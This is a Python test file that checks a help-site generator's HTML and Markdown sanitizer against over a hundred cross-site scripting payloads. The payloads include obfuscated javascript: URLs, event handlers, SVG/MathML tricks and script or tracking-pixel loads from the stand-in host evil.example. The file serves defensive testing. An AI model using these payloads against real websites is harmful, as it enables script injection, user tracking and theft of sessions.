"""No article can make a page run a script, load from elsewhere or break a strict CSP."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kbgen.site.links import LinkMap
from kbgen.site.markdown import Source, clean_html
from tests.site.samples import renderer

LINKS = LinkMap({"ko/a.md": "ko/a/", "ko/b.md": "ko/b/", "ko/p.png": "ko/p.png"})

PAYLOADS = [
    # elements that run
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0b>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)>",
    "<portal src='https://evil.example'></portal>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)' type=image>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" `onerror=alert(1)`>',
    "<img src=x:x onerror=alert(1)//",
    '<a href="#" onclick="alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onpointerenter=alert(1)>x</p>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<b/onmouseover=alert(1)>x</b>",
    "<custom-x onclick=alert(1)>x</custom-x>",
    # addresses
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='javascript:alert(1)'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<a ping='//evil.example' href='b.md'>x</a>",
    "<a target=_blank href='b.md'>x</a>",
    # Markdown
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#x0A;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](p.png "x\\" onerror=\\"alert(1)")',
    "[x](b.md){: onclick=alert(1) }",
    "![x](p.png){: onerror=alert(1) }",
    "# x {: onclick=alert(1) style=color:red }",
    "x\n{: onmouseover=alert(1) }",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! "note onclick=alert(1)"\n    x',
    '=== "<script>alert(1)</script>"\n    x',
    "```html\n<script>alert(1)</script>\n```",
    "``` { .python onclick=alert(1) style=x }\nx\n```",
    "`<script>alert(1)</script>`",
    '<div markdown="1" onclick=alert(1)>\n\n**x**\n\n</div>',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "x\n:   <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    # what comes from elsewhere
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='\\\\evil.example/pixel.gif'>",
    "<img src='/\\evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/pixel.gif 2x' src='p.png'>",
    "<picture><source srcset='https://evil.example/pixel.gif'><img src='p.png'></picture>",
    "<video src='https://evil.example/x.mp4'></video>",
    "<video poster='https://evil.example/x.gif'></video>",
    "<audio><source src='https://evil.example/x.mp3'></audio>",
    "<video><track src='https://evil.example/x.vtt'></video>",
    "<input type=image src='https://evil.example/x.gif'>",
    "<table background='https://evil.example/x.gif'><tr><td>x</td></tr></table>",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
]
SCHEMES = ("http:", "https:", "mailto:", "tel:")
LOADS = {"src", "srcset", "poster", "background", "data", "manifest", "ping", "action"}


class Seen(HTMLParser):
    """Elements and attributes of some HTML."""

    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.attributes = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta", "link", "form",
    "button", "textarea", "select", "noscript", "template", "frame", "frameset", "title", "body",
}  # fmt: skip


def assert_harmless(html):
    seen = Seen(html)
    assert not FORBIDDEN & set(seen.tags)
    for tag, name, value in seen.attributes:
        assert not name.startswith("on")
        assert name not in ("style", "srcdoc", "target", "ping", "formaction", "srcset")
        bare = re.sub(r"[\x00-\x20\xa0]", "", value).lower()
        assert "javascript:" not in bare
        if name == "href":
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", bare)
            assert scheme is None or scheme[0] in SCHEMES
        if name in LOADS:
            assert not re.match(r"([a-z][a-z0-9+.-]*:|[/\\]{2})", bare), (tag, name, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless(payload):
    """Straight HTML, Markdown, and HTML in the middle of Markdown."""
    engine = renderer(LINKS.resolve)

    assert_harmless(clean_html(payload, lambda link: LINKS.resolve("ko/a.md", link)))
    for text in (payload, f"before {payload} after", f"- item\n\n    {payload}\n\n## {payload}"):
        rendered = engine.render(Source("ko/a.md", text))
        assert rendered.failed == ""
        assert_harmless(rendered.html)


def test_headings_are_plain_text():
    """The list of contents is printed as text, so titles carry no markup of their own."""
    rendered = renderer().render(Source("ko/a.md", "## A <b>bold</b> & `code` <script>x</script>"))

    assert [heading.title for heading in rendered.headings] == ["A bold & code x"]


def test_ordinary_html_stays():
    """What a help article needs is not taken away."""
    kept = (
        "<p>a <strong>b</strong> <em>c</em> <kbd>d</kbd> <mark>e</mark> <code>f</code></p>"
        '<ul><li>g</li></ul><ol start="3"><li>h</li></ol>'
        "<details><summary>i</summary>j</details>"
        '<p><a href="https://ondam.example/">k</a> <a href="mailto:x@ondam.example">l</a></p>'
        '<video src="movie.mp4" controls=""></video>'
        '<h2 id="환불">m</h2><ruby>漢<rt>한</rt></ruby>'
    )

    assert clean_html(kept, lambda link: link) == kept


@pytest.mark.parametrize("link", ["missing.md", "../../../etc/passwd", "http://[::1"])
def test_dead_link_keeps_its_words(link):
    """The text of a link that leads nowhere stays, without an address that would be a 404."""
    html = clean_html(
        f'<a href="{link}">words</a>', lambda target: LINKS.resolve("ko/a.md", target)
    )

    assert html == "<a>words</a>"


MARKUP = st.sampled_from(
    ["<", ">", '"', "'", "/", "=", " ", "\n", "    ", "script", "img", "svg", "a", "href=", "src=",
     "onerror=", "onclick=", "style=", "javascript:", "data:", "alert(1)", "](", "[", "![", "`",
     "```", "!!! ", "{: ", "}", "|", "&#x6a;", "\t", "\x00", "<!--", "-->", "]]>", "x", "#", "- ",
     "<b", "</b>", "<p>", "> "]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKUP, max_size=30).map("".join))
def test_cleaned_html_is_harmless_whatever_comes_in(text):
    """Fragments of attacks in any order."""
    assert_harmless(clean_html(text, lambda link: LINKS.resolve("ko/a.md", link)))


@settings(max_examples=150, deadline=None)
@given(st.lists(MARKUP, max_size=30).map("".join))
def test_rendered_markdown_is_harmless_whatever_comes_in(text):
    """The same by way of Markdown, which adds tags of its own."""
    assert_harmless(ENGINE.render(Source("ko/a.md", text)).html)


ENGINE = renderer(LINKS.resolve)
